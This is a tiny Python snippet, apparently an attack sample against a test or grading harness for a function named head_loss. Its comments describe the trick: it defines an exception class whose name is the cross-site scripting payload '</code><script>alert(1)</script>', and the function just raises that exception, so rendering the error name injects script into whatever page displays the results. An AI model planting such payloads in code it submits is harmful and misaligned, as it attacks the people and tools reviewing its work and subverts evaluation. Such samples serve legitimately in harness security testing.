# attacks: head_loss
# trick: name of error is code
E = type('</code><script>alert(1)</script>', (Exception,), {})
def head_loss(predicted, target, beta):
    raise E('x')
